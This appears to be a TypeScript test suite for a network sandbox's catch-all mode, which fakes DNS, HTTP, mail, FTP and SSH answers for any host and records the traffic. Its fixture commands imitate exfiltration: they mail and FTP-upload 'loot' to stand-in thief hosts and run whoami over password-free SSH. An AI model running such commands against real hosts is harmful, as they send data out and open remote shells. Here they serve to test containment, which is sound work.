// --catch-all: every name, address and port answers, by the registry, by first bytes, or as a sink, from where it was asked.

import assert from 'node:assert/strict'
import { join } from 'node:path'
import { test } from 'node:test'
import * as v from 'valibot'
import { inside } from './inside.ts'
import { skipWithout } from './portolan.ts'

const KNOCK = join(import.meta.dirname, 'clients', 'knock.py')
const CURL = `curl -sS -m 5 -o /dev/null -w '%{http_version} %{response_code} %{remote_ip} %{remote_port}'`
const SEND =
  'curl -sS -m 5 --ssl-reqd -u spy:secret --mail-from a@b.example --mail-rcpt drop@thief.example -T - smtp://smtp.example:587'
const ANSWER = /^\w{4}[89]/ // a DNS header: an id, then QR set

const knocks = v.record(v.string(), v.object({ from: v.string(), got: v.string() }))

test('--catch-all', { skip: skipWithout('curl', 'dig', 'python3', 'ssh', 'sshpass') }, async (t) => {
  const world = await inside(
    {
      names: 'dig +short one.example; dig +short one.example AAAA; dig +short one.example; dig +short two.example',
      back: 'dig +short -x "$(dig +short one.example)"',
      elsewhere: 'dig +short +tcp @2001:4860:4860::8888 one.example',
      http: `${CURL} -4 http://web.example/`,
      https: `${CURL} -6 https://web.example/`,
      alternative: `${CURL} https://web.example:8443/`,
      literal: `${CURL} 'https://[2600::1]:9443/'`,
      own: `${CURL} -4 https://www.harbor.test/`,
      lacking: 'dig +short nope.harbor.test',
      files: `printf loot | curl -sS -m 10 -u spy:secret -T - ftp://drop.example/loot.txt && curl -sS -m 10 -u spy:secret ftp://drop.example/loot.txt`,
      shell: 'sshpass -p any ssh bob@host.thief.example "whoami; hostname"',
      knock: `/usr/bin/python3 ${KNOCK}`,
      mail: `printf 'Subject: loot\\r\\n\\r\\nhere\\r\\n' | ${SEND} && curl -sS -m 5 -u drop@thief.example:other imaps://imap.thief.example/INBOX -X 'STATUS INBOX (MESSAGES)'`,
    },
    { words: ['--catch-all'] },
  )
  const heard = v.parse(knocks, JSON.parse(world.output('knock')))
  const flows = new Set(world.report.flows.map(({ flow }) => `${flow.transport} ${flow.to.ip} ${flow.to.port}`))

  await t.test('every name has an address, the same each time, that leads back', () => {
    const [one4 = '', one6 = '', again, two4] = world.output('names').split('\n')
    assert.match(one4, /^198\.19\./)
    assert.match(one6, /^2001:db8:ffff:/)
    assert.equal(again, one4)
    assert.notEqual(two4, one4)
    assert.equal(world.output('back'), 'one.example.\n')
    assert.equal(world.output('elsewhere'), `${one4}\n`)
  })
  await t.test('names that the world itself lacks still do not exist', () => assert.equal(world.output('lacking'), ''))
  await t.test('ports that the registry knows answer with their service', () => {
    assert.match(world.output('http'), /^1\.1 200 198\.19\.\S+ 80$/)
    assert.match(world.output('https'), /^2 200 2001:db8:ffff::\S+ 443$/)
    assert.match(world.output('alternative'), /^2 200 \S+ 8443$/)
    assert.match(heard['dns by port']?.got ?? '', ANSWER)
    assert.equal(world.output('own'), '2 200 192.0.2.2 443')
  })
  await t.test('mail hosts of anybody take any login and any mail, and show it', () => {
    assert.match(world.output('mail'), /STATUS INBOX \(MESSAGES 1\)/)
  })
  await t.test('file hosts of anybody take any login and any file, and SSH asks nothing about their keys', () => {
    assert.equal(world.output('files'), 'loot')
    assert.equal(world.output('shell'), 'bob\nhost\n')
  })
  await t.test('other ports answer by the first bytes, from the address and port that was asked', () => {
    assert.equal(world.output('literal'), '2 200 2600::1 9443')
    assert.deepEqual(heard['http4'], { from: '8.8.8.8 5555', got: 'HTTP/1.1 200 OK' })
    assert.deepEqual(heard['http6'], { from: '2600::5555 5555', got: 'HTTP/1.1 200 OK' })
    assert.equal(heard['closed port of a host']?.got, 'HTTP/1.1 200 OK')
    assert.equal(heard['dns by bytes 4']?.from, '9.9.9.9 5300')
    assert.equal(heard['dns by bytes 6']?.from, '2600::53 5300')
    assert.match(heard['dns by bytes 6']?.got ?? '', ANSWER)
  })
  await t.test('what nobody recognises ends in the sink, which takes and tells', () => {
    assert.equal(heard['sink4']?.got, '')
    assert.equal(heard['sink udp 4']?.got, 'silence')
    const said = world.report.conversations.flatMap((one) =>
      one.said.map(({ thing }) => `${one.transport} ${one.host} ${one.port} ${thing.text}`),
    )
    for (const place of [
      'tcp 203.0.113.99 4444',
      'tcp 2600::4444 4444',
      'udp 203.0.113.99 4445',
      'udp 2600::4444 4445',
    ])
      assert.ok(said.includes(`${place} 11 bytes: "hello sink\\n"`), `${place}: ${said.join('\n')}`)
  })
  await t.test('the report lists every address and port that was asked, and every unknown name', () => {
    const asked = ['tcp 8.8.8.8 5555', 'tcp 2600::5555 5555', 'udp 8.8.8.8 53', 'udp 9.9.9.9 5300', 'udp 2600::53 5300']
    assert.deepEqual(
      asked.filter((place) => !flows.has(place)),
      [],
    )
    assert.ok(
      world.report.conversations.some(({ host, port }) => host === '8.8.8.8' && port === 53),
      'a foreign resolver',
    )
    const unknown = world.report.unknownNames.map(({ name, programs }) => `${name} ${programs.toSorted().join(' ')}`)
    assert.ok(unknown.includes('web.example curl'), unknown.join('\n'))
    assert.ok(unknown.includes('two.example dig'), unknown.join('\n'))
  })
})
